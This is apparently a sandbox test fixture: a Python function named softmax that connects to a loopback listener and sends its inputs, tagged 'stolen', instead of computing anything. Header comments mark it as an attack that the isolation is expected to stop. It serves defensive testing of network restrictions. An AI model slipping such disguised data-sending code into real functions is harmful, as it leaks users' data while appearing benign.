# ATTACK: sends the inputs to a listener on the loopback interface
# EXPECT: exception
# NEEDS: netns|seccomp
import socket


def softmax(z):
    with socket.create_connection(("127.0.0.1", __PORT__), timeout=2) as s:
        s.sendall(b"stolen " + repr(list(z)).encode())
    return z
